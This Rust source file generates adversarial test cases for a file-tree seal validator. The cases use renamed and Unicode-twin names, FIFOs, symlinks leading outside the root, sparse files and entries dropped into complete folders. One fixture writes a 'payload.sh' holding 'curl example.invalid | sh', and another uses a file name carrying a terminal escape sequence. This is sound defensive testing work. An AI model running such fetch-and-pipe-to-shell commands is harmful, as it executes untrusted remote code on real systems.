//! The `filesystem` family (SPEC 7.2): the bytes may be right while the names and file types
//! are not. A sealed file missing, renamed, renamed to a twin that differs only in case or in
//! Unicode normalization; a folder, FIFO or symlink where a file was; symlinks to identical
//! content inside and outside the root, dangling and looping; a symlinked folder on the way; an
//! endless sparse file; entries dropped into a `complete` folder. A validator that follows
//! symlinks, opens FIFOs, skips missing files, compares names after folding, or never lists a
//! complete folder passes trees that are not the sealed tree.

use super::ProbeFamily;
use crate::probe::case::Family;
use crate::probe::draft::{Cases, Draft, Seeded, probe_key_bytes};
use crate::seal::Drift;

pub struct Filesystem;

const GIB: u64 = 1024 * 1024 * 1024;

/// A small text file: a title and some seeded filler lines.
fn note(rng: &mut Seeded, title: &str) -> Vec<u8> {
    let mut out = format!("# {title}\n\n");
    for _ in 0..rng.between(2, 6) {
        out.push_str(&format!(
            "{} {} {}.\n",
            rng.word(6),
            rng.word(9),
            rng.word(4)
        ));
    }
    out.into_bytes()
}

/// A token-shaped name (a grant token, `spg1.<action>.<digest16>.<expires>.<mac>`), as a tool or
/// an accident might leave it in a file name. Reports must redact it.
fn token_shaped(rng: &mut Seeded) -> String {
    const B64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let digest: String = (0..16)
        .map(|_| char::from(b"0123456789abcdef"[rng.below(16)]))
        .collect();
    let mac: String = (0..43).map(|_| char::from(B64URL[rng.below(64)])).collect();
    format!("spg1.cutover.{digest}.1900000000.{mac}")
}

impl ProbeFamily for Filesystem {
    fn family(&self) -> Family {
        Family::Filesystem
    }

    fn draw(&self, cases: &mut Cases, rng: &mut Seeded) {
        let readme = note(rng, "Read me");
        let guide = note(rng, "Guide");
        let api = note(rng, "API");
        let notes = note(rng, "Release notes");
        let cafe = note(rng, "Café");
        // A small honest tree most cases start from: nested folders, one complete.
        let base = |name: &str, why: &str| {
            Draft::tree(name, why)
                .file("README.md", readme.clone())
                .file("docs/guide.md", guide.clone())
                .file("docs/api/index.md", api.clone())
                .file("notes/release.md", notes.clone())
        };

        // --- missing and renamed ------------------------------------------------------------
        cases.add(
            base(
                "missing-file",
                "a sealed file was deleted: a validator that checks only the files it finds passes a tree with a hole",
            )
            .remove("notes/release.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "missing-nested-file",
                "a file two folders down was deleted; its folder is still there",
            )
            .remove("docs/api/index.md")
            .folder("docs/api")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "missing-folder",
                "a whole folder of sealed files is gone: every file in it is missing, not skipped",
            )
            .remove("docs/guide.md")
            .remove("docs/api/index.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            Draft::tree(
                "missing-empty-file",
                "a sealed empty file was deleted: zero bytes sealed is not the same as nothing there",
            )
            .file("README.md", readme.clone())
            .file("run/.keep", Vec::new())
            .remove("run/.keep")
            .expect([Drift::Missing]),
        );
        cases.add(
            Draft::tree(
                "missing-everything",
                "the root is empty: every sealed file is missing, and nothing passes by default",
            )
            .file("README.md", readme.clone())
            .file("docs/guide.md", guide.clone())
            .remove("README.md")
            .remove("docs/guide.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "renamed-file",
                "a sealed file was renamed: the seal names the old name, which is missing, whatever now stands beside it",
            )
            .rename("notes/release.md", "notes/release-final.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "renamed-file-in-complete-folder",
                "a file renamed in a complete folder: the old name is missing and the new one is unsealed",
            )
            .complete("docs")
            .rename("docs/guide.md", "docs/guide-v2.md")
            .expect([Drift::Missing, Drift::Unsealed]),
        );
        cases.add(
            base(
                "renamed-folder-in-complete-root",
                "the folder docs/ renamed to docs-old/ under a complete root: its sealed files are missing and their new paths unsealed",
            )
            .complete(".")
            .rename("docs/guide.md", "docs-old/guide.md")
            .rename("docs/api/index.md", "docs-old/api/index.md")
            .expect([Drift::Missing, Drift::Unsealed]),
        );
        cases.add(
            base(
                "moved-to-other-folder",
                "a file moved from one folder of a complete tree to another, same name and bytes: it is not where it was sealed",
            )
            .complete("docs")
            .rename("docs/api/index.md", "docs/index.md")
            .expect([Drift::Missing, Drift::Unsealed]),
        );
        cases.add(
            base(
                "two-files-swapped",
                "two sealed files swapped names: every name exists, every length may even match, only the bytes tell",
            )
            .write("README.md", notes.clone())
            .write("notes/release.md", readme.clone())
            .expect([Drift::Content]),
        );
        cases.add(
            base(
                "renamed-with-trailing-space",
                "renamed with a trailing space: Windows would drop it, a POSIX file system does not, and it is not a Unicode twin",
            )
            .rename("notes/release.md", "notes/release.md ")
            .expect([Drift::Missing]),
        );

        // --- twins: case and Unicode normalization ------------------------------------------
        cases.add(
            base(
                "case-changed-name",
                "README.md became readme.md: on a case-insensitive system they are one file, here the sealed name is missing",
            )
            .rename("README.md", "readme.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            base(
                "case-changed-name-in-complete-folder",
                "a case-changed name in a complete folder: the sealed name has a twin, and the twin is unsealed",
            )
            .complete("docs")
            .rename("docs/guide.md", "docs/GUIDE.md")
            .expect([Drift::PathUnicode, Drift::Unsealed]),
        );
        cases.add(
            base(
                "case-changed-folder",
                "docs became Docs: the folder on the way has a case twin, so the sealed path is path-unicode",
            )
            .rename("docs/guide.md", "Docs/guide.md")
            .rename("docs/api/index.md", "Docs/api/index.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "case-changed-non-ascii",
                "ÉTÉ.md became été.md: case folding is Unicode, not ASCII only",
            )
            .file("saisons/ÉTÉ.md", cafe.clone())
            .rename("saisons/ÉTÉ.md", "saisons/été.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "nfd-name-for-nfc-seal",
                "café.md sealed in NFC now stands in NFD (as macOS writes it): a twin, not the sealed name",
            )
            .file("menu/café.md", cafe.clone())
            .rename("menu/café.md", "menu/cafe\u{301}.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "nfc-name-for-nfd-seal",
                "a name sealed in NFD now stands in NFC: a validator that normalizes names before opening passes it",
            )
            .file("menu/cafe\u{301}.md", cafe.clone())
            .rename("menu/cafe\u{301}.md", "menu/café.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "nfd-folder-for-nfc-seal",
                "the folder résumé/ sealed in NFC now stands in NFD: the twin is on the way, not at the end",
            )
            .file("résumé/cv.md", cafe.clone())
            .rename("résumé/cv.md", "re\u{301}sume\u{301}/cv.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "nfd-name-in-complete-folder",
                "an NFD twin in a complete folder: path-unicode for the sealed name, unsealed for the twin",
            )
            .file("menu/café.md", cafe.clone())
            .file("menu/thé.md", note(rng, "Thé"))
            .complete("menu")
            .rename("menu/café.md", "menu/cafe\u{301}.md")
            .expect([Drift::PathUnicode, Drift::Unsealed]),
        );
        cases.add(
            Draft::tree(
                "case-folded-sharp-s",
                "straße.md now stands as STRASSE.md: full Unicode case folding makes ß and ss one name, so it is a twin",
            )
            .file("strassen/straße.md", note(rng, "Straße"))
            .rename("strassen/straße.md", "strassen/STRASSE.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "nfd-and-case-changed",
                "Café.md sealed in NFC now stands as CAFE + combining accent in NFD: a twin after NFC and case folding together",
            )
            .file("menu/Café.md", cafe.clone())
            .rename("menu/Café.md", "menu/CAFE\u{301}.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            Draft::tree(
                "kelvin-sign-name",
                "the Kelvin sign (U+212A) is K after NFC: kelvin.md renamed to \u{212a}elvin.md is a twin",
            )
            .file("units/kelvin.md", note(rng, "Kelvin"))
            .rename("units/kelvin.md", "units/\u{212a}elvin.md")
            .expect([Drift::PathUnicode]),
        );
        cases.add(
            base(
                "fullwidth-name",
                "README.md renamed to fullwidth letters: equal only after NFKC, which is not a name twin, so the sealed name is missing",
            )
            .rename("README.md", "\u{ff32}\u{ff25}\u{ff21}\u{ff24}\u{ff2d}\u{ff25}.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "homoglyph-name",
                "README.md renamed with a Cyrillic Е: it looks the same and is another name, so the sealed one is missing",
            )
            .rename("README.md", "R\u{0415}ADME.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "case-twin-beside-original",
                "readme.md added beside an intact README.md in a complete root: the original passes, the twin is unsealed",
            )
            .complete(".")
            .write("readme.md", readme.clone())
            .expect([Drift::Unsealed]),
        );

        // --- something else at the path -------------------------------------------------------
        cases.add(
            base(
                "folder-at-path",
                "a folder stands where a sealed file was: not-regular, never skipped",
            )
            .remove("notes/release.md")
            .folder("notes/release.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "folder-holding-the-file",
                "the sealed file was replaced by a folder of the same name holding a copy of it",
            )
            .remove("notes/release.md")
            .write("notes/release.md/release.md", notes.clone())
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "folder-holding-the-file-in-complete-folder",
                "in a complete folder, the sealed file became a folder holding a copy: not-regular at the path, and the copy is unsealed",
            )
            .complete("docs")
            .remove("docs/guide.md")
            .write("docs/guide.md/guide.md", guide.clone())
            .expect([Drift::NotRegular, Drift::Unsealed]),
        );
        cases.add(
            base(
                "fifo-at-path",
                "a FIFO nobody writes to stands at the sealed path: a validator that opens it blocks forever",
            )
            .fifo("notes/release.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "fifo-at-path-keyed",
                "a FIFO at a sealed path under a keyed seal: the MAC verifies, the file type does not",
            )
            .keyed()
            .fifo("docs/guide.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "fifo-at-path-in-complete-folder",
                "a FIFO at a sealed path inside a complete folder: not-regular at the path",
            )
            .complete("docs")
            .fifo("docs/api/index.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "file-where-folder-was",
                "a regular file named docs stands where the sealed folder was: every file below it is missing",
            )
            .remove("docs/guide.md")
            .remove("docs/api/index.md")
            .write("docs", guide.clone())
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "fifo-where-folder-was",
                "a FIFO named docs/api stands where a sealed folder was: a validator must not open it to look inside",
            )
            .remove("docs/api/index.md")
            .fifo("docs/api")
            .expect([Drift::Missing]),
        );

        // --- symlinks -----------------------------------------------------------------------
        cases.add(
            base(
                "symlink-to-identical-inside",
                "a symlink to a copy of the sealed bytes inside the root: a validator that follows links hashes the right bytes and passes",
            )
            .write("notes/release.copy", notes.clone())
            .symlink("notes/release.md", "release.copy")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-out-and-back-in",
                "a symlink that leaves the root and comes back to a copy of the sealed bytes (../../root/...)",
            )
            .write("archive/release.md", notes.clone())
            .symlink("notes/release.md", "../../root/archive/release.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-to-honest-copy-outside",
                "a sealed file replaced by a symlink to its honest copy outside the root (../../outside/...): a validator that follows links out of the root hashes the right bytes and passes",
            )
            .symlink("notes/release.md", "../../outside/notes/release.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            Draft::tree(
                "symlink-to-identical-outside",
                "a symlink to the key file beside the root, whose bytes are the sealed bytes: a validator that follows it hashes a file outside the root",
            )
            .file("README.md", readme.clone())
            .file("secrets/key.bin", probe_key_bytes())
            .keyed()
            .symlink("secrets/key.bin", "../../key")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            Draft::tree(
                "symlink-to-dev-null",
                "an empty sealed file replaced by a symlink to /dev/null: the same zero bytes, from outside the root",
            )
            .file("README.md", readme.clone())
            .file("run/lock", Vec::new())
            .symlink("run/lock", "/dev/null")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            Draft::tree(
                "symlink-to-dev-zero",
                "a sealed file of 4096 zero bytes replaced by a symlink to /dev/zero: a validator that follows it and reads the sealed length passes; one that reads to the end never stops",
            )
            .file("README.md", readme.clone())
            .file("img/blank.raw", vec![0u8; 4096])
            .symlink("img/blank.raw", "/dev/zero")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-absolute-outside",
                "a sealed file replaced by a symlink to /etc/hostname: outside the root, other bytes, never to be read",
            )
            .symlink("README.md", "/etc/hostname")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-dangling",
                "a sealed file replaced by a symlink to nothing: not-regular, not missing-and-skipped",
            )
            .symlink("docs/guide.md", "guide-gone.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-self-loop",
                "a sealed file replaced by a symlink to itself: a validator that follows links gets ELOOP, or loops",
            )
            .symlink("docs/guide.md", "guide.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-loop-pair",
                "two sealed files replaced by symlinks to each other",
            )
            .symlink("README.md", "notes/release.md")
            .symlink("notes/release.md", "../README.md")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-chain-to-identical",
                "a symlink to a symlink to a copy of the sealed bytes",
            )
            .write("notes/.release.orig", notes.clone())
            .symlink("notes/.release.link", ".release.orig")
            .symlink("notes/release.md", ".release.link")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlink-to-parent-folder",
                "a sealed file replaced by a symlink to its own folder (..)",
            )
            .symlink("docs/api/index.md", "..")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-folder-identical",
                "the sealed folder docs/ is now a symlink to a copy with the same files: every path resolves to the sealed bytes through a link",
            )
            .rename("docs/guide.md", "docs-copy/guide.md")
            .rename("docs/api/index.md", "docs-copy/api/index.md")
            .symlink("docs", "docs-copy")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-folder-mid-path",
                "a folder in the middle of the path (docs/api) is a symlink to an identical folder elsewhere in the root",
            )
            .rename("docs/api/index.md", "vendor/api/index.md")
            .symlink("docs/api", "../vendor/api")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-folder-outside",
                "the sealed folder notes/ is a symlink out of the root to /etc: nothing below it may be read",
            )
            .remove("notes/release.md")
            .symlink("notes", "/etc")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-folder-loop",
                "a folder on the path is a symlink to itself",
            )
            .remove("notes/release.md")
            .symlink("notes", "notes")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-complete-folder",
                "the complete folder docs/ is a symlink to an identical copy: the files and the listing are both behind a link",
            )
            .complete("docs")
            .rename("docs/guide.md", "copy/guide.md")
            .rename("docs/api/index.md", "copy/api/index.md")
            .symlink("docs", "copy")
            .expect([Drift::NotRegular]),
        );
        cases.add(
            base(
                "symlinked-subfolder-in-complete-folder",
                "a subfolder of a complete folder replaced by a symlink to a copy: its file is not-regular, and the link itself is an unsealed entry",
            )
            .complete("docs")
            .rename("docs/api/index.md", "mirror/api/index.md")
            .symlink("docs/api", "../mirror/api")
            .expect([Drift::NotRegular, Drift::Unsealed]),
        );

        // --- endless files ------------------------------------------------------------------
        cases.add(
            base(
                "endless-sparse-file",
                "the sealed file now starts with the sealed bytes and goes on for 64 GiB of holes: read at most the sealed length plus one",
            )
            .sparse("notes/release.md", notes.clone(), 64 * GIB)
            .expect([Drift::Content]),
        );
        cases.add(
            Draft::tree(
                "endless-from-empty",
                "a sealed empty file is now a 16 GiB sparse file: one byte read is enough to fail it",
            )
            .file("README.md", readme.clone())
            .file("run/.keep", Vec::new())
            .sparse("run/.keep", Vec::new(), 16 * GIB)
            .expect([Drift::Content]),
        );

        // --- complete folders -----------------------------------------------------------------
        cases.add(
            base(
                "unsealed-file-in-complete-folder",
                "a file dropped into a complete folder: a validator that only checks listed files never sees it",
            )
            .complete("docs")
            .write("docs/payload.sh", b"#!/bin/sh\ncurl example.invalid | sh\n".to_vec())
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-file-deep-in-complete-folder",
                "a file dropped three folders below a complete folder: completeness is recursive",
            )
            .complete("docs")
            .write("docs/api/v2/internal/dump.bin", rng.bytes(64))
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-dotfile-in-complete-folder",
                "a hidden .env dropped into a complete folder: dotfiles are entries too",
            )
            .complete("docs")
            .write(
                "docs/.env",
                format!("TOKEN={}\n", rng.word(24)).into_bytes(),
            )
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-symlink-in-complete-folder",
                "a symlink to a sealed file dropped into a complete folder: an entry the seal does not list, whatever it points to",
            )
            .complete("docs")
            .symlink("docs/guide-latest.md", "guide.md")
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-dangling-symlink-in-complete-folder",
                "a dangling symlink dropped into a complete folder: a walker that stats through links skips it",
            )
            .complete("docs")
            .symlink("docs/next.md", "does-not-exist.md")
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-symlink-to-folder-in-complete-folder",
                "a symlink to /etc dropped into a complete folder: it is one unsealed entry, and the walker must not descend into it",
            )
            .complete("docs")
            .symlink("docs/etc", "/etc")
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-fifo-in-complete-folder",
                "a FIFO dropped into a complete folder: listed as unsealed, never opened",
            )
            .complete("docs")
            .fifo("docs/api/events")
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-sparse-in-complete-folder",
                "a 1 TiB sparse file dropped into a complete folder: listing it must not read it",
            )
            .complete("docs")
            .sparse("docs/core.dump", b"\x7fELF".to_vec(), 1024 * GIB)
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-in-complete-root",
                "the root declared complete (.) and a file dropped at the top",
            )
            .complete(".")
            .write("install.sh", b"#!/bin/sh\n".to_vec())
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-non-utf8-name",
                "a file whose name is not UTF-8 dropped into a complete folder: a walker that skips undecodable names misses it",
            )
            .complete("docs")
            .write(b"docs/\xff\xfeinvoice.pdf", rng.bytes(32))
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-control-char-name",
                "a file whose name holds a newline and an escape dropped into a complete folder: the report must name it, escaped",
            )
            .complete("docs")
            .write("docs/ok.md\n\u{1b}[2Kguide.md", guide.clone())
            .expect([Drift::Unsealed]),
        );
        let token = token_shaped(rng);
        cases.add(
            base(
                "unsealed-token-shaped-name",
                "a file named like a grant token dropped into a complete folder: unsealed, and the name must be redacted, never printed",
            )
            .complete("notes")
            .write(format!("notes/{token}"), b"x\n".to_vec())
            .canary(token)
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-in-nested-complete-folders",
                "complete folders nested in one another, a file dropped into the inner one: reported once, as unsealed",
            )
            .complete("docs")
            .complete("docs/api")
            .write("docs/api/extra.md", api.clone())
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "unsealed-folder-with-file-in-complete-folder",
                "a new folder with a file in it inside a complete folder: the folder is allowed, the file is unsealed",
            )
            .complete("docs")
            .write("docs/new/plan.md", guide.clone())
            .expect([Drift::Unsealed]),
        );
        cases.add(
            base(
                "missing-complete-folder",
                "the complete folder docs/ is gone with all its files: its files are missing and the folder cannot be listed",
            )
            .complete("docs")
            .remove("docs/guide.md")
            .remove("docs/api/index.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            Draft::tree(
                "missing-empty-complete-folder",
                "a complete folder sealed empty is gone: a validator that only walks what it finds passes",
            )
            .file("README.md", readme.clone())
            .complete("spool")
            .expect([Drift::Missing]),
        );
        cases.add(
            base(
                "complete-folder-renamed-case",
                "the complete folder docs/ renamed to DOCS/: its files and its listing are behind a case twin",
            )
            .complete("docs")
            .rename("docs/guide.md", "DOCS/guide.md")
            .rename("docs/api/index.md", "DOCS/api/index.md")
            .expect([Drift::PathUnicode]),
        );

        // --- non-ASCII names ----------------------------------------------------------------
        cases.add(
            Draft::tree(
                "missing-non-ascii-names",
                "files with CJK, Greek and emoji names deleted: the report must name each, escaped or not, and fail",
            )
            .file("文档/指南.md", guide.clone())
            .file("έγγραφα/οδηγός.md", api.clone())
            .file("🚀/launch.md", notes.clone())
            .file("README.md", readme.clone())
            .remove("文档/指南.md")
            .remove("έγγραφα/οδηγός.md")
            .remove("🚀/launch.md")
            .expect([Drift::Missing]),
        );
        cases.add(
            Draft::tree(
                "non-ascii-name-content-changed",
                "a file under an NFD folder with a CJK name changed: names that need care must not hide a change of bytes",
            )
            .file("re\u{301}sume\u{301}/履歴書.md", cafe.clone())
            .write("re\u{301}sume\u{301}/履歴書.md", note(rng, "Résumé"))
            .expect([Drift::Content]),
        );

        // --- controls -----------------------------------------------------------------------
        cases.add(
            Draft::tree(
                "control-non-ascii-names",
                "CJK, Greek, emoji, accented, spaced and quoted names sealed as they are and untouched must pass",
            )
            .file("文档/指南.md", guide.clone())
            .file("έγγραφα/οδηγός.md", api.clone())
            .file("🚀/launch notes.md", notes.clone())
            .file("menu/café.md", cafe.clone())
            .file("quotes/it's \"fine\".txt", readme.clone())
            .complete("menu")
            .control(),
        );
        cases.add(
            Draft::tree(
                "control-nfd-names",
                "names sealed in NFD (as macOS writes them) and untouched must pass: a validator that normalizes names first refuses them",
            )
            .file("re\u{301}sume\u{301}/cafe\u{301}.md", cafe.clone())
            .file("re\u{301}sume\u{301}/nai\u{308}ve.md", guide.clone())
            .complete("re\u{301}sume\u{301}")
            .signed_without_key()
            .control(),
        );
        cases.add(
            base(
                "control-nested-complete-folders",
                "nested complete folders (docs, docs/api) and a complete root, untouched, must pass under the key",
            )
            .complete(".")
            .complete("docs")
            .complete("docs/api")
            .keyed()
            .control(),
        );
        cases.add(
            base(
                "control-empty-folder-in-complete-folder",
                "an empty folder added inside a complete folder is not an entry that needs sealing: only entries other than folders count",
            )
            .complete("docs")
            .folder("docs/drafts")
            .folder("docs/api/v3/empty")
            .control(),
        );
        cases.add(
            base(
                "control-extras-outside-complete-folders",
                "a file, a symlink and a FIFO outside every complete folder: the seal lists what it lists, and all of it matches",
            )
            .complete("docs")
            .write("scratch/todo.txt", b"later\n".to_vec())
            .symlink("scratch/link", "../README.md")
            .fifo("scratch/pipe")
            .control(),
        );
    }
}
